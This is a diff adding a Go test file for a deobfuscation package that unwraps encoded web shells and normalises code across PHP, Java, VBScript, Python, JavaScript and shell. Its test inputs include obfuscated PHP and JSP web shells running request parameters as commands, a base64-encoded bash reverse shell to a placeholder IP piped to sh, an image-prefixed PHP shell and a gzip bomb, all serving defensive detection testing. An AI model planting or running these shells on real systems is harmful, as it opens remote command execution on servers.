@@ -1,0 +1,165 @@
+package decode
+
+import (
+	"bytes"
+	"compress/flate"
+	"compress/gzip"
+	"compress/zlib"
+	"encoding/base64"
+	"strings"
+	"testing"
+	"time"
+)
+
+func compress(t testing.TB, kind string, s []byte) []byte {
+	var b bytes.Buffer
+	var w interface {
+		Write([]byte) (int, error)
+		Close() error
+	}
+	switch kind {
+	case "gzip":
+		w = gzip.NewWriter(&b)
+	case "zlib":
+		w = zlib.NewWriter(&b)
+	default:
+		w, _ = flate.NewWriter(&b, 9)
+	}
+	w.Write(s)
+	w.Close()
+	return b.Bytes()
+}
+
+// sq quotes s as a PHP single-quoted literal.
+func sq(s string) string { return "'" + strings.NewReplacer(`\`, `\\`, `'`, `\'`).Replace(s) + "'" }
+
+func b64(b []byte) string { return base64.StdEncoding.EncodeToString(b) }
+
+// last returns the deepest layer's chain and text.
+func last(r Result) (string, string) {
+	l := r.Layers[len(r.Layers)-1]
+	return l.ChainString(), string(l.Text())
+}
+
+func TestLayers(t *testing.T) {
+	payload := []byte("system($_GET['c']);")
+	tests := []struct {
+		name  string
+		s     Syntax
+		src   string
+		chain string // of the deepest layer
+		text  string // substring of the deepest layer's text
+	}{
+		{"base64", PHP, "<?php eval(base64_decode('" + b64(payload) + "')); ?>", "base64", "system($_GET['c'])"},
+		{"gzinflate", PHP, "<?php eval(gzinflate(base64_decode('" + b64(compress(t, "flate", payload)) + "'))); ?>", "base64 > gzinflate", "system($_GET"},
+		{"gzuncompress", PHP, "<?php eval(gzuncompress(base64_decode('" + b64(compress(t, "zlib", payload)) + "'))); ?>", "base64 > gzuncompress", "system($_GET"},
+		{"gzdecode", PHP, "<?php eval(gzdecode(base64_decode('" + b64(compress(t, "gzip", payload)) + "'))); ?>", "base64 > gzdecode", "system($_GET"},
+		{"rot13", PHP, `<?php eval(str_rot13('flfgrz($_TRG[\'p\']);')); ?>`, "rot13", "system($_GET"},
+		{"strrev", PHP, `<?php eval(strrev(';)]\'c\'[TEG_$(metsys')); ?>`, "strrev", "system($_GET"},
+		{"hex", PHP, "<?php eval(hex2bin('73797374656d28245f4745545b2763275d293b')); ?>", "hex", "system($_GET"},
+		{"url", PHP, "<?php eval(urldecode('system%28%24_GET%5B%27c%27%5D%29%3B')); ?>", "url", "system($_GET"},
+		{"chr", PHP, "<?php eval(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109).chr(40).chr(36).chr(95).chr(71).chr(69).chr(84).chr(91).chr(39).chr(99).chr(39).chr(93).chr(41).chr(59)); ?>", "chr", "system($_GET"},
+		{"escapes", PHP, `<?php eval("\x73\x79\x73\x74\x65\x6d\x28\x24\x5f\x47\x45\x54\x5b\x27\x63\x27\x5d\x29\x3b"); ?>`, "escape", "system($_GET"},
+		{"unnamed blob", PHP, "<?php $x = '" + b64(compress(t, "flate", payload)) + "'; $f($x); ?>", "base64 > gzinflate", "system($_GET"},
+		{"three layers", PHP, "<?php eval(base64_decode('" + b64([]byte("eval(str_rot13("+sq(Rot13("eval(strrev("+sq(Reverse(string(payload)))+"));"))+"));")) + "')); ?>", "base64 > rot13 > strrev", "system($_GET"},
+		{"fromCharCode", JavaScript, "eval(String.fromCharCode(97,108,101,114,116,40,49,41,59,32,101,118,97,108,40,49,41));", "chr", "eval(1)"},
+		{"Java getDecoder", Java, `<% engine.eval(new String(java.util.Base64.getDecoder().decode("` + b64([]byte(`java.lang.Runtime.getRuntime().exec(request.getParameter("c"))`)) + `"))); %>`, "base64", "getRuntime"},
+		{"VBScript Chr", VBScript, `<% Execute(Chr(101) & Chr(118) & Chr(97) & Chr(108) & Chr(32) & Chr(114) & Chr(101) & Chr(113) & Chr(117) & Chr(101) & Chr(115) & Chr(116) & Chr(40) & Chr(34) & Chr(120) & Chr(34) & Chr(41)) %>`, "chr", `eval request("x")`},
+		{"Python", Python, "import base64\nexec(base64.b64decode('" + b64([]byte("import os\nos.system('id')\n")) + "'))\n", "base64", "os.system"},
+		{"shell blob", Plain, "echo " + b64([]byte("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n")) + " | base64 -d | sh\n", "base64", "/dev/tcp/"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			r := Layers([]byte(tc.src), tc.s, Limits{})
+			chain, text := last(r)
+			if chain != tc.chain || !strings.Contains(text, tc.text) {
+				for _, l := range r.Layers {
+					t.Logf("[%s] %q", l.ChainString(), l.Text())
+				}
+				t.Fatalf("deepest layer [%s] %q, want [%s] with %q", chain, text, tc.chain, tc.text)
+			}
+		})
+	}
+}
+
+func TestNormalize(t *testing.T) {
+	tests := []struct {
+		name string
+		s    Syntax
+		src  string
+		want string
+		not  string
+	}{
+		{"comments dropped", PHP, "<?php /** run `$_POST['a']` */ // system($x)\n# eval($y)\necho 1; ?>", "echo 1;", "system"},
+		{"concatenation joined", PHP, "<?php $f = 'sy' . 'st' . \"em\"; ?>", "$f = 'system';", ""},
+		{"constant variable folded into call", PHP, "<?php $f = 'sys'.'tem'; $f($_GET['c']); ?>", "system($_GET['c'])", ""},
+		{"str_replace", PHP, "<?php $f = str_replace('x', '', 'sxyxsxtxexm'); ?>", "'system'", ""},
+		{"strings stay strings", PHP, "<?php echo 'a /* not a comment */ b'; ?>", "/* not a comment */", ""},
+		{"markup kept", PHP, "<p>don't</p><?php echo 1; ?><p>it's</p>", "<p>don't</p><?php echo 1; ?><p>it's</p>", ""},
+		{"Java unicode escapes", Java, `<% Run\u0074ime.getRuntime(); %>`, "Runtime.getRuntime()", ""},
+		{"VBScript comments", VBScript, "<%\r\n' Execute x\r\nREM Execute y\r\nResponse.Write 1\r\n%>", "Response.Write 1", "Execute"},
+		{"JSPX entities", Java, `<jsp:scriptlet>if (a &lt; b &amp;&amp; c) { x(); }</jsp:scriptlet>`, "a < b && c", ""},
+		{"Python getattr", Python, "getattr(os, 'sys' + 'tem')(c)\n", "os.system(c)", ""},
+		{"JavaScript brackets", JavaScript, "global['ev' + 'al'](x);", "global.eval(x)", ""},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			r := Layers([]byte(tc.src), tc.s, Limits{})
+			got := string(r.Layers[0].Text())
+			if !strings.Contains(got, tc.want) || tc.not != "" && strings.Contains(got, tc.not) {
+				t.Fatalf("got %q, want %q without %q", got, tc.want, tc.not)
+			}
+		})
+	}
+}
+
+func TestBounds(t *testing.T) {
+	// a gzip bomb: 64 MB of zeros, compressed
+	bomb := compress(t, "gzip", make([]byte, 64<<20))
+	r := Layers([]byte("<?php eval(gzdecode(base64_decode('"+b64(bomb)+"'))); ?>"), PHP, Limits{MaxBytes: 1 << 20})
+	if r.Cut != "bytes" {
+		t.Errorf("gzip bomb: cut %q, want bytes", r.Cut)
+	}
+	// deeper than the depth bound
+	code := "system($_GET['c']);"
+	for i := 0; i < 8; i++ {
+		code = "eval(base64_decode('" + b64([]byte(code)) + "'));"
+	}
+	r = Layers([]byte("<?php "+code+" ?>"), PHP, Limits{MaxDepth: 3})
+	if r.Cut != "depth" || len(r.Layers) != 4 {
+		t.Errorf("nested 8 deep with depth 3: cut %q, %d layers, want depth and 4", r.Cut, len(r.Layers))
+	}
+	// time: a deadline already past stops at once
+	start := time.Now()
+	r = Layers([]byte(strings.Repeat("<?php eval(str_rot13('riny(1);')); ?>", 20000)), PHP, Limits{Timeout: time.Nanosecond})
+	if r.Cut != "time" || time.Since(start) > 5*time.Second {
+		t.Errorf("timeout: cut %q after %v", r.Cut, time.Since(start))
+	}
+}
+
+func FuzzLayers(f *testing.F) {
+	for _, s := range []string{
+		"<?php eval(gzinflate(base64_decode('K64sLknN1VCJD3INDHUNDolWT1aP1bQGAA=='))); ?>",
+		"<?php $a = \"\\x73\\u{79}\\163\"; $$a = <<<EOT\n{$_GET['x']} $y\nEOT;\n`ls $a`; ?>",
+		"<% String s = \"a\" + 'b'; %><jsp:scriptlet>x &lt; y</jsp:scriptlet><%-- c --%>",
+		"<%\r\nExecute Chr(101) & \"x\"\"y\" _\r\n & z\r\n%>",
+		"#!/usr/bin/perl\nmy $x = qx{ls}; s/a/b/g; print q(a(b)c);\n",
+		"x = r'a\\b' + b\"c\" \"d\" '''e\nf'''\n",
+		"%x(ls) %w[a b] =begin\nc\n=end\n",
+		"GIF89a\x00\x01<?php system($_GET['c']); ?>",
+	} {
+		f.Add([]byte(s))
+	}
+	syntaxes := []Syntax{PHP, Java, CSharp, VBScript, JavaScript, Python, Perl, Ruby, Shell, Plain}
+	f.Fuzz(func(t *testing.T, data []byte) {
+		for _, s := range syntaxes {
+			r := Layers(data, s, Limits{MaxBytes: 1 << 20, Timeout: time.Second})
+			if len(r.Layers) == 0 {
+				t.Fatalf("%s: no layers", s.Name)
+			}
+			for _, l := range r.Layers {
+				_ = l.Text()
+			}
+		}
+	})
+}
